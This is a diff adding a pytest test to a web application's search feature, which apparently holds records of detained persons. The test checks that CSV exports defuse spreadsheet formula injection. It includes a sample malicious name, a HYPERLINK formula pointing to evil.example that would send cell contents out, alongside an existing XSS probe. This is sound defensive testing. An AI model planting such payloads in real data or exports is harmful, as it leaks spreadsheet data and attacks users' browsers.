@@ -54,3 +54,13 @@ def test_protected_and_confidential_are_not_found(data, client, app):
 def test_escaped_in_results(data, client):
     html = client.get("/search?q=img").get_data(as_text=True)
     assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+
+
+def test_csv_downloads_never_carry_live_formulas(graph, client):
+    """A name typed into a register as a spreadsheet formula downloads as inert text."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Formula Person")'
+    write_records(graph, [NodeRecord("Person", "f1", {"name": evil, "status": "detained"}, ("Detainee",)),
+                          NodeRecord("Person", "f2", {"name": "-Formula Minus", "status": "detained"}, ("Detainee",))])
+    text = client.get("/search", query_string={"q": "Formula", "format": "csv"}).get_data(as_text=True)
+    assert "'=HYPERLINK" in text and "'-Formula Minus" in text
+    assert '\n=HYPERLINK' not in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text
